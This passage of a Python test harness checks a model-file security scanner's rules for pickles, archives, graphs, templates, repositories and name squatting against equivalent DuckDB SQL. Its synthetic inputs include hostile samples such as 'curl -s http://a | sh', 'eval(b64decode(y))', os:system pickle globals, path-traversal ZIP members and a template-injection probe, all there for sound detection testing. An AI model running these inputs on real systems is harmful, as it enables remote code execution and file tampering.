"""Registered queries over the driver's tables, and the same in DuckDB SQL.

The tables hold prose and orders, not model files; each query first derives artifacts, members,
identifiers or findings from their columns by a fixed rule, then runs the operator over all of them.
The SQL computes the expected rows from the same columns without the operator."""

from __future__ import annotations

from collections.abc import Callable

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from .. import knowledge as K
from ..functions.content import printable_runs, suffix
from ..functions.names import ascii_canonical, osa_distance
from ..model import SEVERITIES, union
from ..operators import containers, documents, facts, governance, hub, identify, naming, pickles, reports, repository, tensors
from ..sources.tree import described
from .audit import Config, audit, file_facts, file_findings
from .cases import FAMILIES, Family

Query = Callable[[SparkSession, str], DataFrame]
_QUERIES: dict[str, Query] = {}
_SQL: dict[str, str] = {}


def _table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")


def _query(name: str, sql: str | None = None):
    def add(f: Query) -> Query:
        _QUERIES[name] = f
        if sql:
            _SQL[name] = sql
        return f

    return add


def _pick(values: list[str], at: Column) -> Column:
    return F.array(*[F.lit(v) for v in values])[at.cast("int")]


def _sql_pick(values: list[str], at: str) -> str:
    return f"[{', '.join(_quoted(v) for v in values)}][({at}) + 1]"


def _quoted(s: str) -> str:
    return "'" + s.replace("'", "''") + "'"


def _values(rows: list[tuple]) -> str:
    return "VALUES " + ", ".join(f"({', '.join(_quoted(x) for x in r)})" for r in rows)


def _facts(files: DataFrame, kind: str) -> DataFrame:
    """Facts of one kind, by the pass over contents that an audit makes."""
    return facts.of(facts.extract(identify.identify(described(files)), {kind}), kind)


# --- files -----------------------------------------------------------------------------------------

_HEADS = ["504B0304", "894844460D0A1A0A", "47475546", "934E554D5059", "7F454C46", "425A68", K.LFS_PREFIX.encode().hex(), ""]
_EXTS = [".bin", ".keras", ".txt"]


def _document_files(spark: SparkSession, sf_dir: str) -> DataFrame:
    """A file for each document: a head chosen by its id and then its text; targets of some documents each."""
    d = _table(spark, sf_dir, "documents")
    head = F.unhex(_pick(_HEADS, F.col("doc_id") % 8))
    rows = d.select((F.col("doc_id") % 97).cast("string").alias("target_id"), F.concat(F.col("doc_id").cast("string"), _pick(_EXTS, F.col("doc_id") % 3)).alias("path"), F.concat(head, F.encode("text", "UTF-8")).alias("content"), "doc_id")
    return described(rows)


_FORMAT = """CASE doc_id % 8 WHEN 0 THEN ['torch-zip', 'keras-v3', 'zip'][doc_id % 3 + 1] WHEN 1 THEN 'hdf5' WHEN 2 THEN 'gguf' WHEN 3 THEN 'npy'
  WHEN 4 THEN 'native-executable' WHEN 5 THEN 'bzip2' WHEN 6 THEN 'git-lfs-pointer' ELSE ['unknown', 'unknown', 'text'][doc_id % 3 + 1] END"""


@_query("classify_magic", f"SELECT doc_id, {_FORMAT} AS format FROM documents")
def classify_magic(spark, sf_dir):
    return identify.identify(_document_files(spark, sf_dir)).select("doc_id", "format")


@_query(
    "masquerade",
    f"""WITH f AS (SELECT {_FORMAT} AS format, doc_id % 3 AS e FROM documents)
SELECT 'FILE-001' AS rule_id, 'CRITICAL' AS severity, count(*) AS n FROM f WHERE format = 'native-executable'
UNION ALL SELECT 'FILE-002', 'HIGH', count(*) FROM f WHERE e = 2 AND format NOT IN ('unknown', 'text', 'bzip2')
UNION ALL SELECT 'LFS-001', 'LOW', count(*) FROM f WHERE format = 'git-lfs-pointer'""",
)
def masquerade(spark, sf_dir):
    found = union(identify.findings(identify.identify(_document_files(spark, sf_dir))))
    return found.groupBy("rule_id", "severity").agg(F.count(F.lit(1)).alias("n"))


@_query("extension_histogram", r"SELECT lower(regexp_extract(regexp_extract(url, '[^/]*$'), '[^/](\.[^./]+)$', 1)) AS ext, count(*) AS n FROM pages GROUP BY 1")
def extension_histogram(spark, sf_dir):
    return _table(spark, sf_dir, "pages").select(suffix(F.element_at(F.split("url", "/"), -1)).alias("ext")).groupBy("ext").agg(F.count(F.lit(1)).alias("n"))


@_query("format_histogram", f"SELECT {_FORMAT} AS format, count(*) AS n FROM documents GROUP BY 1 ORDER BY n DESC, format LIMIT 10")
def format_histogram(spark, sf_dir):
    return reports.format_histogram(identify.identify(_document_files(spark, sf_dir)))


@_query("sha256_inventory", "SELECT doc_id, sha256(text) AS sha256, CAST(octet_length(encode(text)) AS BIGINT) AS size FROM documents")
def sha256_inventory(spark, sf_dir):
    return _table(spark, sf_dir, "documents").select("doc_id", F.sha2("text", 256).alias("sha256"), F.octet_length("text").cast("long").alias("size"))


@_query("largest_files", "SELECT CAST(doc_id AS VARCHAR) AS path, CAST(octet_length(encode(text)) AS BIGINT) AS size FROM documents ORDER BY size DESC, path LIMIT 200")
def largest_files(spark, sf_dir):
    rows = _table(spark, sf_dir, "documents").select(F.col("doc_id").cast("string").alias("path"), F.octet_length("text").cast("long").alias("size"))
    return reports.largest_files(rows)


@_query("printable_runs", r"SELECT doc_id, len(r) AS n, coalesce(list_max(list_transform(r, lambda x: length(x))), 0) AS longest FROM (SELECT doc_id, regexp_extract_all(text, '[\x20-\x7e]{4,}') AS r FROM documents)")
def printable_run_counts(spark, sf_dir):
    d = _table(spark, sf_dir, "documents").select("doc_id", printable_runs(F.encode("text", "UTF-8")).alias("r"))
    return d.select("doc_id", F.size("r").cast("long").alias("n"), F.coalesce(F.array_max(F.transform("r", F.length)), F.lit(0)).cast("long").alias("longest"))


_GRAPH_WORDS = [*K.ONNX_OPS[:2], "PyFunc", "SaveV2", "location", "Nothing"]


def _graph_files(spark, sf_dir, ext: str) -> DataFrame:
    p = _table(spark, sf_dir, "part")
    word = _pick(_GRAPH_WORDS, F.col("p_partkey") % 6)
    data = F.concat(F.unhex(F.lit("01")), F.encode(word, "UTF-8"), F.unhex(F.lit("00")), F.encode(F.when(F.col("p_partkey") % 4 == 0, "../up").otherwise("inside"), "UTF-8"), F.unhex(F.lit("02")), F.encode("p_name", "UTF-8"))
    return p.select(F.col("p_partkey").cast("string").alias("target_id"), F.lit(f"m{ext}").alias("path"), data.alias("content"))


@_query("onnx_rules", "SELECT p_partkey, 'ONX-001' AS rule_id, 'MEDIUM' AS severity FROM part WHERE p_partkey % 6 < 2 UNION ALL SELECT p_partkey, 'ONX-002', 'MEDIUM' FROM part WHERE p_partkey % 6 = 4 AND p_partkey % 4 = 0")
def onnx_rules(spark, sf_dir):
    found = union(tensors.graph_findings(_facts(_graph_files(spark, sf_dir, ".onnx"), "graph")))
    return found.select(F.col("target_id").cast("long").alias("p_partkey"), "rule_id", "severity")


@_query("tensorflow_rules", "SELECT p_partkey, 'TF-001' AS rule_id, CASE WHEN p_partkey % 6 = 2 THEN 'HIGH' ELSE 'MEDIUM' END AS severity FROM part WHERE p_partkey % 6 IN (2, 3)")
def tensorflow_rules(spark, sf_dir):
    found = union(tensors.graph_findings(_facts(_graph_files(spark, sf_dir, ".pb"), "graph")))
    return found.select(F.col("target_id").cast("long").alias("p_partkey"), "rule_id", "severity")


_H5 = ["os.system", "eval(", '"class_name": "Lambda"', "dense"]


@_query("hdf5_rules", "SELECT p_partkey, CASE WHEN p_partkey % 4 = 2 THEN 'H5-001' ELSE 'H5-002' END AS rule_id, CASE WHEN p_partkey % 4 = 2 THEN 'HIGH' ELSE 'MEDIUM' END AS severity FROM part WHERE p_partkey % 4 < 3")
def hdf5_rules(spark, sf_dir):
    p = _table(spark, sf_dir, "part")
    data = F.concat(F.unhex(F.lit("894844460D0A1A0A")), F.encode(F.concat("p_name", _pick(_H5, F.col("p_partkey") % 4), "p_type"), "UTF-8"))
    files = p.select(F.col("p_partkey").cast("string").alias("target_id"), F.lit("m.h5").alias("path"), data.alias("content"))
    return union(tensors.graph_findings(_facts(files, "graph"))).select(F.col("target_id").cast("long").alias("p_partkey"), "rule_id", "severity")


@_query("gguf_version", "SELECT p_partkey, CAST(p_partkey % 7 AS BIGINT) AS version, p_partkey % 7 NOT IN (1, 2, 3) AS odd FROM part")
def gguf_version(spark, sf_dir):
    p = _table(spark, sf_dir, "part")
    data = F.concat(F.encode(F.lit("GGUF"), "UTF-8"), F.unhex(F.lpad(F.hex(F.col("p_partkey") % 7), 2, "0")), F.unhex(F.lit("000000")))
    files = p.select(F.col("p_partkey").cast("string").alias("target_id"), F.lit("m.gguf").alias("path"), data.alias("content"))
    found = union(tensors.graph_findings(_facts(files, "graph"))).groupBy("target_id").agg(F.max(F.regexp_extract("detail", r"\d+", 0).cast("long")).alias("version"), F.max(F.col("rule_id") == "GGUF-002").alias("odd"))
    return found.select(F.col("target_id").cast("long").alias("p_partkey"), "version", "odd")


@_query("npy_rules", "SELECT p_partkey, CASE p_partkey % 3 WHEN 0 THEN 'NPY-001' ELSE 'NPY-000' END AS rule_id, CASE p_partkey % 3 WHEN 0 THEN 'HIGH' ELSE 'LOW' END AS severity FROM part WHERE p_partkey % 3 < 2")
def npy_rules(spark, sf_dir):
    p = _table(spark, sf_dir, "part")
    head = F.concat(F.lit("{'descr': '"), _pick(["|O", "", "<f4"], F.col("p_partkey") % 3), F.lit("', 'shape': (1,), }"))
    data = F.when(F.col("p_partkey") % 3 == 1, F.unhex(F.lit("934E554D505901"))).otherwise(F.concat(F.unhex(F.lit("934E554D50590100")), F.unhex(F.lpad(F.hex(F.length(head)), 2, "0")), F.unhex(F.lit("00")), F.encode(head, "UTF-8")))
    rows = p.select(F.col("p_partkey").cast("string").alias("target_id"), F.lit("m.npy").alias("path"), data.alias("content"))
    return union(tensors.npy_findings(_facts(rows, "npy"))).select(F.col("target_id").cast("long").alias("p_partkey"), "rule_id", "severity")


# --- pickles ---------------------------------------------------------------------------------------

_NAMES = ["os:system", "torch:Tensor", "builtins:eval", "research:Thing", "shutil:rmtree", "os:getcwd", "numpy.random:RandomState", "codecs:encode", "requests:Session", "collections:OrderedDict"]
_KB = f"""exact(module, attr, severity) AS ({_values([(*n.split(':'), s) for t, s in ((K.CRITICAL_GLOBALS, 'CRITICAL'), (K.HIGH_GLOBALS, 'HIGH'), (K.WATCH_GLOBALS, 'MEDIUM')) for n in t])}),
whole(module, severity) AS ({_values([(m, 'CRITICAL') for m in K.CRITICAL_MODULES] + [(m, 'HIGH') for m in K.HIGH_MODULES])}),
under(prefix) AS ({_values([(p,) for p in K.ALLOWED_PREFIXES])}),
listed(module, attr) AS ({_values([tuple(n.split(':')) for n in K.ALLOWED_GLOBALS])})"""
_JUDGED = """SELECT n.*, coalesce(e.severity, w.severity) AS known,
    EXISTS (SELECT 1 FROM under u WHERE n.module = u.prefix OR starts_with(n.module, u.prefix || '.')) OR EXISTS (SELECT 1 FROM listed l WHERE l.module = n.module AND l.attr = n.attr) AS ok
  FROM n LEFT JOIN exact e USING (module, attr) LEFT JOIN whole w ON w.module = n.module"""


@_query(
    "pickle_imports",
    f"""WITH {_KB},
n AS (SELECT p_partkey, p_partkey % 2 = 0 AS called, split_part(name, ':', 1) AS module, split_part(name, ':', 2) AS attr FROM (SELECT p_partkey, {_sql_pick(_NAMES, 'p_partkey % 10')} AS name FROM part)),
j AS ({_JUDGED})
SELECT p_partkey, 'FMT-001' AS rule_id, 'LOW' AS severity FROM j
UNION ALL SELECT p_partkey, 'PKL-001', CASE WHEN NOT called AND known = 'CRITICAL' THEN 'HIGH' ELSE known END FROM j WHERE known IS NOT NULL
UNION ALL SELECT p_partkey, 'PKL-002', CASE WHEN called THEN 'MEDIUM' ELSE 'LOW' END FROM j WHERE known IS NULL AND NOT ok
UNION ALL SELECT p_partkey, 'PKL-004', 'MEDIUM' FROM j WHERE p_partkey % 11 = 0""",
)
def pickle_imports(spark, sf_dir):
    """Streams are put together from opcodes; some lack the call, some the end."""
    p = _table(spark, sf_dir, "part")
    name = F.split(_pick(_NAMES, F.col("p_partkey") % 10), ":")
    tail = F.when(F.col("p_partkey") % 2 == 0, F.unhex(F.lit("2952"))).otherwise(F.unhex(F.lit("4E"))), F.when(F.col("p_partkey") % 11 == 0, F.unhex(F.lit(""))).otherwise(F.unhex(F.lit("2E")))
    data = F.concat(F.unhex(F.lit("8002")), F.encode(F.concat(F.lit("c"), name[0], F.lit("\n"), name[1], F.lit("\n")), "UTF-8"), *tail)
    rows = p.select(F.col("p_partkey").cast("string").alias("target_id"), F.lit("m.pkl").alias("path"), data.alias("content"))
    return union(pickles.findings(_facts(rows, "pickle"))).select(F.col("target_id").cast("long").alias("p_partkey"), "rule_id", "severity")


_MODULES = ["os", "torch", "numpy", "builtins", "research", "torch.nn.modules", "urllib.request", "collections", "pickle", "sklearn.svm"]
_ATTRS = ["system", "Tensor", "load", "eval", "OrderedDict", "urlopen", "Thing"]


@_query(
    "globals_lookup",
    f"""WITH {_KB},
n AS (SELECT {_sql_pick(_MODULES, 'l_partkey % 10')} AS module, {_sql_pick(_ATTRS, 'l_suppkey % 7')} AS attr FROM lineitem),
j AS ({_JUDGED})
SELECT module, attr, CASE WHEN known IS NOT NULL THEN 'deny' WHEN ok THEN 'allow' ELSE 'unknown' END AS bucket, coalesce(known, '') AS severity, count(*) AS n FROM j GROUP BY ALL""",
)
def globals_lookup(spark, sf_dir):
    rows = _table(spark, sf_dir, "lineitem").select(_pick(_MODULES, F.col("l_partkey") % 10).alias("module"), _pick(_ATTRS, F.col("l_suppkey") % 7).alias("attr"))
    return pickles.judged(rows).groupBy("module", "attr", "bucket", F.coalesce("known_severity", F.lit("")).alias("severity")).agg(F.count(F.lit(1)).alias("n"))


@_query(
    "shell_markers",
    f"""WITH s AS (SELECT doc_id, text || CASE WHEN doc_id % 3 = 0 THEN {_sql_pick(K.SHELL_MARKERS, 'doc_id % 15')} ELSE '' END AS s FROM documents)
SELECT doc_id, CASE WHEN {' OR '.join(f'contains(s, {_quoted(m)})' for m in K.SHELL_MARKERS_HIGH)} THEN 'HIGH' ELSE 'MEDIUM' END AS severity FROM s
WHERE {' OR '.join(f'contains(s, {_quoted(m)})' for m in K.SHELL_MARKERS)}""",
)
def shell_markers(spark, sf_dir):
    d = _table(spark, sf_dir, "documents")
    s = F.concat("text", F.when(F.col("doc_id") % 3 == 0, _pick(K.SHELL_MARKERS, F.col("doc_id") % 15)).otherwise(""))
    none = F.array().cast("array<string>")
    rows = d.select(F.col("doc_id").cast("string").alias("target_id"), F.lit("x").alias("location"), F.array(s).alias("strings"), F.lit(0).alias("n_calls"), none.alias("exts"), F.lit(1).alias("n_opcodes"), F.lit(None).cast("string").alias("error"), F.array().cast("array<struct<ord:int,module:string,attr:string,pos:long,first:boolean>>").alias("imports"))
    return union(pickles.findings(rows)).where("rule_id = 'PKL-005'").select(F.col("target_id").cast("long").alias("doc_id"), "severity")


# --- containers ------------------------------------------------------------------------------------

_MEMBERS = ["archive/data.pkl", "/etc/x", "a/../b", "m/code/run.py", "tool.exe", "data/0", "x\\y", "..up/name"]


@_query(
    "zip_members",
    f"""WITH m AS (SELECT l_orderkey, l_linenumber, {_sql_pick(_MEMBERS, 'l_partkey % 8')} AS m, CAST(l_quantity AS BIGINT) * 400 AS comp, CAST(l_extendedprice AS BIGINT) * 100 AS size, l_suppkey % 5 = 0 AS link FROM lineitem)
SELECT 'ZIP-001' AS rule_id, 'CRITICAL' AS severity, count(*) AS n FROM m WHERE m IN ('/etc/x', 'a/../b')
UNION ALL SELECT 'ZIP-002', 'HIGH', count(*) FROM m WHERE link
UNION ALL SELECT 'ZIP-003', 'MEDIUM', count(*) FROM m WHERE comp > 4096 AND size > 200 * comp
UNION ALL SELECT 'ZIP-006', 'HIGH', count(*) FROM m WHERE m IN ('m/code/run.py', 'tool.exe')
UNION ALL SELECT 'ZIP-007', 'MEDIUM', count(DISTINCT l_orderkey) FROM m WHERE m = 'm/code/run.py'""",
)
def zip_members(spark, sf_dir):
    li = _table(spark, sf_dir, "lineitem")
    none = lambda kind: F.lit(None).cast(kind)
    # rounded half to even, as the SQL's casts do
    even = lambda c: F.bround(c).cast("long")
    rows = li.select(
        F.col("l_orderkey").cast("string").alias("target_id"), F.lit("m.zip").alias("path"), F.lit("zip").alias("container"), F.col("l_linenumber").alias("ord"), _pick(_MEMBERS, F.col("l_partkey") % 8).alias("member"), F.lit(False).alias("is_dir"),
        (even("l_quantity") * 400).alias("comp_size"), (even("l_extendedprice") * 100).alias("size"), F.when(F.col("l_suppkey") % 5 == 0, 0xA1FF0000).otherwise(0).cast("long").alias("external_attr"), none("int").alias("mode"), none("string").alias("kind"), none("string").alias("error"), none("binary").alias("content"),
    )
    return union(containers.findings(rows)).groupBy("rule_id", "severity").agg(F.count(F.lit(1)).alias("n"))


@_query(
    "tensor_overlap",
    """WITH s AS (SELECT l_orderkey AS k, CAST(l_linenumber AS VARCHAR) AS name, l_partkey % 500 AS b, l_partkey % 500 + l_suppkey % 60 AS e FROM lineitem),
p AS (SELECT k, lag(name) OVER w AS prev_name, name, lag(e) OVER w AS prev_e, b, row_number() OVER w AS nth FROM s WINDOW w AS (PARTITION BY k ORDER BY b, e, name))
SELECT k, arg_min(prev_name, nth) AS prev_name, arg_min(name, nth) AS name FROM p WHERE b < prev_e GROUP BY k""",
)
def tensor_overlap(spark, sf_dir):
    li = _table(spark, sf_dir, "lineitem")
    spans = li.select(F.col("l_orderkey").alias("k"), F.col("l_linenumber").cast("string").alias("name"), (F.col("l_partkey") % 500).alias("b"), (F.col("l_partkey") % 500 + F.col("l_suppkey") % 60).alias("e"))
    return tensors.overlaps(spans, ["k"]).select("k", "prev_name", "name")


@_query("tensor_shape", "SELECT p_partkey FROM part WHERE [4, 2, 8, 1][p_partkey % 4 + 1] * p_size * 3 <> p_size * 12")
def tensor_shape(spark, sf_dir):
    p = _table(spark, sf_dir, "part")
    big = lambda c: c.cast("decimal(38,0)")
    rows = p.select("p_partkey", _pick(["F32", "BF16", "I64", "BOOL"], F.col("p_partkey") % 4).alias("dtype"), F.array(big(F.col("p_size")), big(F.lit(3))).alias("shape"), big(F.lit(0)).alias("b"), big(F.col("p_size") * 12).alias("e"))
    return rows.where(tensors.mismatch()).select("p_partkey")


# --- documents -------------------------------------------------------------------------------------


@_query(
    "json_walk",
    """SELECT conv_id, turn, 'role' AS path, role AS value FROM conversations UNION ALL SELECT conv_id, turn, 'body.text', text FROM conversations
UNION ALL SELECT conv_id, turn, 'body.list[1]', 'x' FROM conversations""",
)
def json_walk(spark, sf_dir):
    c = _table(spark, sf_dir, "conversations")
    doc = F.to_json(F.struct("role", F.struct("text", F.array(F.lit(None).cast("string"), F.lit("x")).alias("list")).alias("body")))
    leaves = documents.leaf_rows(c.select(F.struct("conv_id", "turn").alias("id"), doc.alias("text")))
    return leaves.select("id.conv_id", "id.turn", "path", "value")


_TEMPLATES = ["", "{{ x }}", "{% set a = ''.__class__ %}", "namespace"]


@_query(
    "template_scan",
    f"""WITH t AS (SELECT conv_id, turn, {_sql_pick(['chat_template', 'note'], 'turn % 2')} AS key, text || {_sql_pick(_TEMPLATES, '(conv_id + turn) % 4')} AS v FROM conversations),
f AS (SELECT *, key = 'chat_template' AS is_key, regexp_matches(v, '\\{{\\{{|\\{{%') AS mark, regexp_extract(v, {_quoted(K.TEMPLATE_HINT)}) AS token FROM t)
SELECT conv_id, turn, CASE WHEN token <> '' THEN 'TPL-001' WHEN is_key AND mark THEN 'TPL-002' ELSE 'none' END AS verdict, token FROM f WHERE is_key OR mark""",
)
def template_scan(spark, sf_dir):
    c = _table(spark, sf_dir, "conversations")
    rows = c.select("conv_id", "turn", _pick(["chat_template", "note"], F.col("turn") % 2).alias("path_in_file"), F.concat("text", _pick(_TEMPLATES, (F.col("conv_id") + F.col("turn")) % 4)).alias("value"))
    f = documents.judged_templates(rows).where("is_key or has_mark")
    return f.select("conv_id", "turn", F.when(F.col("token") != "", "TPL-001").when(F.col("is_key") & F.col("has_mark"), "TPL-002").otherwise("none").alias("verdict"), "token")


_LINES = ["!ls", "x = 1", "curl -s http://a | sh", "os.system('x')", "eval(b64decode(y))"]


@_query(
    "notebook_lines",
    f"""WITH l AS (SELECT conv_id, {_sql_pick(_LINES, 'turn % 5')} AS s FROM conversations)
SELECT conv_id, bool_or(starts_with(s, '!') OR contains(s, 'os.system') OR contains(s, 'curl ')) AS hit, bool_or(contains(s, '| sh') OR contains(s, 'eval(')) AS severe FROM l GROUP BY conv_id""",
)
def notebook_lines(spark, sf_dir):
    c = _table(spark, sf_dir, "conversations").select("conv_id", _pick(_LINES, F.col("turn") % 5).alias("line"))
    return documents.line_flags(c).groupBy("conv_id").agg(F.max("hit").alias("hit"), F.max("severe").alias("severe"))


# --- files of each family ---------------------------------------------------------------------------


#: Files that one task makes and parses.
FILES_A_TASK = 5000


def _spread(keys: DataFrame) -> DataFrame:
    """``keys`` dealt out to tasks while they are narrow: a table of few row groups is few tasks, however many files its rows become."""
    return keys.repartition(max(keys.sparkSession.sparkContext.defaultParallelism, -(-keys.count() // FILES_A_TASK)), *keys.columns)


def _family(name: str, family: Family) -> None:
    rows = [(i, r, s) for i, (_, found) in enumerate(family.files) for r, s in found]
    expected = "VALUES " + ", ".join(f"({i}, '{r}', '{s}')" for i, r, s in rows)

    @_query(name, f"WITH c(k, rule_id, severity) AS ({expected}) SELECT p_partkey, rule_id, severity FROM part JOIN c ON p_partkey % {len(family.files)} = k")
    def run(spark: SparkSession, sf_dir: str) -> DataFrame:
        """A file of the family for each part, through the whole pass over contents and all rules of files."""
        contents = F.array(*[F.lit(data) for data, _ in family.files])
        p = _spread(_table(spark, sf_dir, "part").select("p_partkey"))
        files = p.select(F.col("p_partkey").cast("string").alias("target_id"), F.lit(family.path).alias("path"), contents[(F.col("p_partkey") % len(family.files)).cast("int")].alias("content"))
        known = identify.identify(described(files))
        config = Config(only=family.analyzers)
        found = file_findings(known, file_facts(known, config), config)
        return found.select(F.col("target_id").cast("long").alias("p_partkey"), "rule_id", "severity")


for _name, _files in FAMILIES.items():
    _family(_name, _files)


# --- repositories ----------------------------------------------------------------------------------

_PATHS = ["model.bin", "model.safetensors", "README.md", "code/run.py", "setup.py", "model.safetensors.sig", "notes.txt", ".well-known/key"]


@_query(
    "repository_rules",
    f"""WITH f AS (SELECT o_custkey AS k, {_sql_pick(_PATHS, 'o_orderkey % 8')} AS p FROM orders),
t AS (SELECT k, bool_or(p = 'model.bin') AS bin, bool_or(p = 'model.safetensors') AS safe, bool_or(p = 'README.md') AS readme, bool_or(p IN ('code/run.py', 'setup.py')) AS py, bool_or(p = 'setup.py') AS setup, bool_or(p IN ('model.safetensors.sig', '.well-known/key')) AS sig FROM f GROUP BY k)
SELECT k, 'REPO-001' AS rule_id FROM t WHERE bin AND NOT safe UNION ALL SELECT k, 'REPO-002' FROM t WHERE bin AND safe
UNION ALL SELECT k, 'REPO-003' FROM t WHERE py AND k % 5 <> 0 UNION ALL SELECT k, 'REPO-004' FROM t WHERE NOT readme UNION ALL SELECT k, 'REPO-005' FROM t WHERE setup
UNION ALL SELECT k, 'SIG-001' FROM t WHERE sig UNION ALL SELECT k, 'SIG-002' FROM t WHERE NOT sig AND (bin OR safe)""",
)
def repository_rules(spark, sf_dir):
    o = _table(spark, sf_dir, "orders").select(F.col("o_custkey").cast("string").alias("target_id"), _pick(_PATHS, F.col("o_orderkey") % 8).alias("path"))
    mapped = o.select("target_id").distinct().where("target_id % 5 = 0")
    return union(repository.findings(repository.inventory(o), mapped)).select(F.col("target_id").cast("long").alias("k"), "rule_id")


_AS_OF = "1998-08-03T00:00:00Z"
_REPOS = """SELECT c_custkey AS k, split_part(c_name, '#', 1) || c_custkey % 300 AS publisher, count(o_orderkey) * 20 AS downloads, count(o_orderkey) % 7 AS likes, max(o_orderdate) AS created FROM customer LEFT JOIN orders ON o_custkey = c_custkey GROUP BY ALL"""


def _repos(spark, sf_dir) -> DataFrame:
    c, o = _table(spark, sf_dir, "customer"), _table(spark, sf_dir, "orders")
    per = o.groupBy("o_custkey").agg(F.count("o_orderkey").alias("n"), F.max("o_orderdate").alias("created"))
    j = c.join(per, F.col("c_custkey") == F.col("o_custkey"), "left")
    n = F.coalesce("n", F.lit(0))
    tags = F.when(F.col("c_nationkey") % 4 == 0, F.array(F.lit("custom_code"))).otherwise(F.array().cast("array<string>"))
    publisher = F.concat(F.split("c_name", "#")[0], (F.col("c_custkey") % 300).cast("string"))
    listed = F.array(F.struct(F.lit("model.bin").alias("rfilename"), F.lit(1).cast("long").alias("size"), F.lit(False).alias("lfs")))
    return j.select(
        F.concat_ws("/", publisher, F.col("c_custkey").cast("string")).alias("id"), F.lit(None).cast("string").alias("author"), (n * 20).alias("downloads"), (n % 7).alias("likes"), F.date_format("created", "yyyy-MM-dd'T'HH:mm:ss'Z'").alias("createdAt"), F.lit(None).cast("string").alias("lastModified"),
        F.when(F.col("c_nationkey") % 3 == 0, "auto").alias("gated"), (F.col("c_nationkey") == 7).alias("disabled"), tags.alias("tags"), listed.alias("siblings"),
    )


@_query(
    "provenance_rules",
    f"""WITH r AS ({_REPOS}), a AS (SELECT *, floor(epoch(TIMESTAMP '1998-08-03' - created) / 86400) AS age, count(*) OVER (PARTITION BY publisher) AS published FROM r),
x AS (SELECT a.*, c_nationkey AS nation FROM a JOIN customer ON c_custkey = k)
SELECT 'PRV-001' AS rule_id, count(*) AS n FROM x WHERE age < 14 HAVING n > 0 UNION ALL SELECT 'PRV-002', count(*) AS n FROM x WHERE downloads < 100 AND likes < 5 HAVING n > 0
UNION ALL SELECT 'PRV-003', count(*) AS n FROM x WHERE nation % 3 = 0 HAVING n > 0 UNION ALL SELECT 'PRV-004', count(*) AS n FROM x WHERE nation = 7 HAVING n > 0
UNION ALL SELECT 'PRV-005', count(*) AS n FROM x WHERE nation % 4 = 0 HAVING n > 0 UNION ALL SELECT 'PRV-006', count(*) AS n FROM x WHERE age < 30 AND published >= 5 HAVING n > 0""",
)
def provenance_rules(spark, sf_dir):
    return hub.provenance_findings(_repos(spark, sf_dir), _AS_OF, bulk=5).groupBy("rule_id").agg(F.count(F.lit(1)).alias("n"))


@_query(
    "manifest_drift",
    """WITH l AS (SELECT o_custkey AS k, 'part' || o_orderkey % 9 || '.bin' AS p FROM orders), m AS (SELECT o_custkey AS k, 'part' || o_orderkey % 9 || '.bin' AS p FROM orders WHERE o_orderkey % 3 <> 0),
g AS (SELECT DISTINCT k, p FROM l WHERE NOT EXISTS (SELECT 1 FROM m WHERE m.k = l.k AND m.p = l.p) AND k IN (SELECT k FROM m))
SELECT k, min(p) AS location, least(count(*), 12) AS n FROM g GROUP BY k""",
)
def manifest_drift(spark, sf_dir):
    o = _table(spark, sf_dir, "orders").select(F.col("o_custkey").cast("string").alias("target_id"), F.concat(F.lit("part"), (F.col("o_orderkey") % 9).cast("string"), F.lit(".bin")).alias("path"), "o_orderkey")
    repos = o.where("o_orderkey % 3 <> 0").groupBy(F.col("target_id").alias("id")).agg(F.collect_set(F.struct(F.col("path").alias("rfilename"), F.lit(1).cast("long").alias("size"), F.lit(False).alias("lfs"))).alias("siblings"))
    return hub.manifest_drift(o.select("target_id", "path"), repos).select(F.col("target_id").cast("long").alias("k"), "location", F.size("evidence").cast("long").alias("n"))


# --- names -----------------------------------------------------------------------------------------


@_query("canonical_names", r"SELECT p_partkey, regexp_replace(lower(p_name || '-' || p_brand || ' ' || p_type), '[-_.\s]+', '', 'g') AS name FROM part")
def canonical_names(spark, sf_dir):
    return _table(spark, sf_dir, "part").select("p_partkey", ascii_canonical(F.concat(F.concat_ws("-", "p_name", "p_brand"), F.lit(" "), "p_type")).alias("name"))


@_query("edit_distance", "SELECT a.n_name AS a, b.n_name AS b, least(damerau_levenshtein(a.n_name, b.n_name), 2) AS d FROM nation a JOIN nation b ON abs(length(a.n_name) - length(b.n_name)) <= 2")
def edit_distance(spark, sf_dir):
    """Up to 2, where the restricted and the full distance agree."""
    n = _table(spark, sf_dir, "nation").select(F.col("n_name").alias("a"))
    pairs = n.join(n.withColumnRenamed("a", "b"), F.abs(F.length("a") - F.length("b")) <= 2)
    return pairs.select("a", "b", F.least(osa_distance(F.col("a"), F.col("b")), F.lit(2)).cast("long").alias("d"))


_ORGS, _MODELS = ["openai", "meta-llama", "google", "zzz-unknown-zzz", "meta_llama", "GOOGLE", "-odd", "opnai"], ["gpt2", "bert-base-uncased", "own-weights", "phi-2"]
_IDS = f"SELECT c_custkey AS k, {_sql_pick(_ORGS, 'c_custkey % 8')} AS org, {_sql_pick(_MODELS, 'c_nationkey % 4')} AS model FROM customer"


@_query(
    "name_rules",
    f"""WITH i AS ({_IDS})
SELECT k, 'SQT-002' AS rule_id, 'HIGH' AS severity FROM i WHERE org = 'opnai' UNION ALL SELECT k, 'SQT-005', 'HIGH' FROM i WHERE org IN ('zzz-unknown-zzz', '-odd', 'opnai') AND model <> 'own-weights'
UNION ALL SELECT k, 'SQT-007', 'LOW' FROM i WHERE org = '-odd' UNION ALL SELECT k, 'SQT-008', CASE org WHEN 'GOOGLE' THEN 'LOW' ELSE 'HIGH' END FROM i WHERE org IN ('meta_llama', 'GOOGLE')""",
)
def name_rules(spark, sf_dir):
    c = _table(spark, sf_dir, "customer")
    ids = c.select(F.col("c_custkey").cast("string").alias("target_id"), F.concat_ws("/", _pick(_ORGS, F.col("c_custkey") % 8), _pick(_MODELS, F.col("c_nationkey") % 4)).alias("repo_id"))
    return naming.findings(ids, naming.seed_corpus(spark)).select(F.col("target_id").cast("long").alias("k"), "rule_id", "severity")


_ODD_IDS = ["g00gle/own-a", "google-official/own-b", "openai/whisper-bsae", "someone-else/whisper-bsae", "g\u043e\u043egle/own-c", "openai/whisper-base"]


@_query(
    "name_rules_odd",
    f"""WITH i AS (SELECT c_custkey AS k, c_custkey % {len(_ODD_IDS)} AS c FROM customer),
